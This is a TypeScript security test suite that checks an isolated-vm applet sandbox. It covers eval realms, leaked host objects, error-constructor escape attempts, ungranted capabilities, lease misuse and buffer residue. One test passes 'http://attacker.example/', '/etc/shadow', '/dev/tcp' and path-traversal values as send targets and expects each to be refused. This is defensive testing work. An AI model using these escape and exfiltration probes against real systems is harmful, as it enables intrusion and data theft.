/**
 * More confinement attacks through `di eval`: eval/Function realms, a search of the whole reachable
 * object graph for leaked isolated-vm host objects, kernel error objects, capabilities a policy did
 * not grant, confused-deputy calls on leases, and residue in the broker after a lease.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { runEval } from '../../cli/eval-harness.js';
import { inspectSlotBuffers } from '../../platform/slot-broker/broker.js';
import { bootDev, applet, devPolicy, testCardClass, until, type DevKernel } from '../support/dev-kernel.js';
import { createCard } from '../../emulator/cards/profiles.js';
import { auditExcerpt, evidence } from './evidence.js';
import { WALKER } from './walker.js';

function script(body: string): string {
  const dir = mkdtempSync(join(tmpdir(), 'di-sec-more-'));
  const f = join(dir, 'applet.js');
  writeFileSync(f, body);
  return f;
}
const CARD_POLICY = resolve('test/fixtures/eval/test-card-policy.json');


describe('escapes through eval, reachable objects and error objects', () => {
  it('[ESC-07] eval, indirect eval and Function run in the isolate realm only', async (ctx) => {
    const r = await runEval({
      applet: script(`globalThis.main = async () => ({
        direct: eval('typeof process + typeof require + typeof Buffer'),
        indirect: (0, eval)('typeof process + typeof globalThis.require'),
        fn: Function('return typeof process')(),
        sameGlobal: Function('return this')() === globalThis && (0, eval)('globalThis') === globalThis,
        generator: Object.getPrototypeOf(function* () {}).constructor('yield typeof process')().next().value,
        viaPlatform: platform.clock.now.constructor === Function,
      });`),
    });
    evidence(ctx, 'result', r.result);
    expect(r.outcome).toBe('completed');
    expect(r.result).toEqual({ direct: 'undefinedundefinedundefined', indirect: 'undefinedundefined', fn: 'undefined', sameGlobal: true, generator: 'undefined', viaPlatform: true });
    expect(r.kernelHealthy).toBe(true);
  });

  it('[ESC-08] no isolated-vm host object (Reference, ExternalCopy, Callback) and no foreign-realm function is reachable', async (ctx) => {
    const r = await runEval({
      applet: script(`${WALKER}
      globalThis.main = async () => {
        let err; try { await platform.slots.acquire(99); } catch (e) { err = e; }
        let err2; try { await platform.store.put('k', 1); } catch (e) { err2 = e; }
        return walk([globalThis, platform, err, err2, platform.slots.list(), main]);
      };`),
    });
    evidence(ctx, 'walk', r.result);
    expect(r.outcome).toBe('completed');
    const res = r.result as { objects: number; hostish: string[]; foreignFns: string[]; bad: string[] };
    expect(res.objects).toBeGreaterThan(500);
    expect(res.hostish).toEqual([]);
    expect(res.foreignFns).toEqual([]);
    expect(res.bad).toEqual([]);
  });

  it('[ESC-09] error objects from the kernel are isolate errors with stack, message and code only', async (ctx) => {
    const r = await runEval({
      applet: script(`globalThis.main = async () => {
        let e; try { await platform.slots.acquire(99); } catch (x) { e = x; }
        return {
          isError: e instanceof Error,
          protoIsIsolate: [Error.prototype, TypeError.prototype, RangeError.prototype].includes(Object.getPrototypeOf(e)),
          own: Object.getOwnPropertyNames(e).sort(),
          chain: e.constructor.constructor('return typeof process')(),
          ctorIsIsolate: e.constructor.constructor === Function,
          frozenProto: Object.isFrozen(Object.getPrototypeOf(e)),
          stackHasHost: /node:|internal\\/|dist\\/host|\\/platform\\//.test(String(e.stack)),
        };
      };`),
    });
    evidence(ctx, 'result', r.result);
    expect(r.result).toEqual({ isError: true, protoIsIsolate: true, own: ['code', 'message', 'stack'], chain: 'undefined', ctorIsIsolate: true, frozenProto: true, stackHasHost: false });
  });
});

describe('capabilities that were not granted', () => {
  it('[AMB-02] a policy that grants nothing: every capability is refused on the kernel side, with no effect', async (ctx) => {
    const r = await runEval({
      applet: script(`globalThis.main = async () => {
        const code = (p) => p.then((v) => 'ok:' + JSON.stringify(v), (e) => e.code);
        return {
          put: await code(platform.store.put('k', 1)),
          get: await code(platform.store.get('k')),
          show: await code(platform.ui.show({ lines: ['x'] })),
          ask: await code(platform.ui.ask({ text: 'x', choices: ['a'] })),
          send: await code(platform.net.send('smtp-amo', { to: 'x' })),
          fetch: await code(platform.net.fetch('pop3-amo')),
          intent: await code(platform.intents.request('payment', { action: 'charge' })),
          acquire: await code(platform.slots.acquire(0, { timeoutMs: 100 })),
          list: await code(platform.slots.list()),
          pin: await code(platform.pin.verify({ token: 'ab'.repeat(32), slot: 0 }, { reference: 1, format: 'ascii-ff' })),
        };
      };`),
    });
    evidence(ctx, 'codes', r.result);
    evidence(ctx, 'audit', auditExcerpt(r.audit.filter((e) => e.domain === 'eval')));
    expect(r.result).toEqual({
      put: 'E_QUOTA', get: 'ok:undefined', show: 'E_POLICY', ask: 'E_POLICY', send: 'E_POLICY', fetch: 'E_POLICY',
      intent: 'E_POLICY', acquire: 'E_NOT_ROUTED', list: 'ok:[]', pin: expect.stringMatching(/^E_(LEASE|POLICY)$/),
    });
    expect(r.audit.some((e) => e.domain === 'eval' && e.event === 'call.refused')).toBe(true);
    expect(r.kernelHealthy).toBe(true);
  });

  it('[AMB-03] endpoints, intent targets and actions outside the policy, path-like names included, are refused', async (ctx) => {
    const r = await runEval({
      policy: CARD_POLICY,
      applet: script(`globalThis.main = async () => {
        const code = (p) => p.then(() => 'ok', (e) => e.code);
        const out = [];
        for (const ep of ['smtp-amo', '../../etc/passwd', 'http://attacker.example/', 'file:///etc/shadow', '']) out.push(await code(platform.net.send(ep, { body: 'x' })));
        for (const ep of ['pop3-amo', '/dev/tcp/127.0.0.1/25']) out.push(await code(platform.net.fetch(ep)));
        for (const [t, a] of [['payment', 'charge'], ['kernel', 'boot'], ['evaluator', 'x'], ['../payment', 'charge']]) out.push(await code(platform.intents.request(t, { action: a })));
        return out;
      };`),
    });
    evidence(ctx, 'codes', r.result);
    expect(r.outcome).toBe('completed');
    const codes = r.result as string[];
    expect(codes).toHaveLength(11);
    for (const c of codes) expect(['E_POLICY', 'E_ARGS']).toContain(c);
  });
});

describe('leases as capabilities, and what a lease leaves behind', () => {
  it('[LEASE-05] lease objects are frozen and their methods act for their own lease whatever `this` is', async (ctx) => {
    const r = await runEval({
      policy: CARD_POLICY,
      card: 'test-card',
      applet: script(`'use strict';
      globalThis.main = async () => {
        const out = {};
        const lease = await platform.slots.acquire(0, { timeoutMs: 1000 });
        out.frozen = Object.isFrozen(lease);
        try { lease.token = 'ab'.repeat(32); out.assign = 'assigned'; } catch (e) { out.assign = e.constructor.name; }
        try { Object.defineProperty(lease, 'slot', { value: 1 }); out.define = 'defined'; } catch (e) { out.define = e.constructor.name; }
        const fake = { token: 'cd'.repeat(32), slot: 1, cardClass: 'x', atr: '' };
        const r = await lease.transmit.call(fake, new Uint8Array([0x80, 0xEE, 0x00, 0x00, 0x01, 0x42, 0x00]));
        out.ownLease = Array.from(r).join(',');
        const token = lease.token;
        await lease.release();
        try { await lease.transmit.call(fake, new Uint8Array([0x80, 0xEE, 0, 0, 1, 0x42, 0])); out.after = 'ok'; } catch (e) { out.after = e.code; }
        try { await platform.pin.verify({ token, slot: 0, cardClass: 'test-card', atr: '' }, { reference: 1, format: 'ascii-ff' }); out.replay = 'ok'; } catch (e) { out.replay = e.code; }
        return out;
      };`),
    });
    evidence(ctx, 'result', r.result);
    expect(r.result).toEqual({ frozen: true, assign: 'TypeError', define: 'TypeError', ownLease: '66,144,0', after: 'E_LEASE', replay: 'E_LEASE' });
  });

  describe('residue', () => {
    let dk: DevKernel;
    const SCRIPT = `
    globalThis.onIntent = async (req) => {
      const lease = await platform.slots.acquire(0, { timeoutMs: 1000 });
      const r = await lease.transmit(new Uint8Array([0x80, 0xEE, 0x00, 0x00, 0x06, 0xDE, 0xAD, 0xBE, 0xEF, 0x13, 0x37, 0x00]));
      if (req.payload.keep) { globalThis.lease = lease; return Array.from(r); }
      await lease.release();
      return Array.from(r);
    };`;
    beforeAll(async () => {
      dk = await bootDev([applet(devPolicy('alpha', { cardClasses: [testCardClass()] }), SCRIPT)]);
      dk.kernel.insertCard(0, createCard('test-card'));
      await until(() => dk.kernel.broker.cardsFor('alpha').length > 0);
    });
    afterAll(async () => dk.close());

    it('[XDOM-09] after a lease ends, the broker\'s buffers for the slot are zero and hold none of its traffic', async (ctx) => {
      const echoed = (await dk.kernel.call('alpha', 'onIntent', [{ from: 't', action: 'x', payload: { keep: false } }])) as number[];
      expect(Buffer.from(echoed).toString('hex')).toBe('deadbeef13379000');
      const bufs = inspectSlotBuffers(dk.kernel.broker, 0);
      evidence(ctx, 'buffers after release', bufs.map((b) => `${b.length} bytes, nonzero: ${b.filter((x) => x !== 0).length}`));
      for (const b of bufs) {
        expect(Buffer.from(b).toString('hex')).not.toContain('deadbeef1337');
        expect(b.every((x) => x === 0)).toBe(true);
      }
    });
  });
});
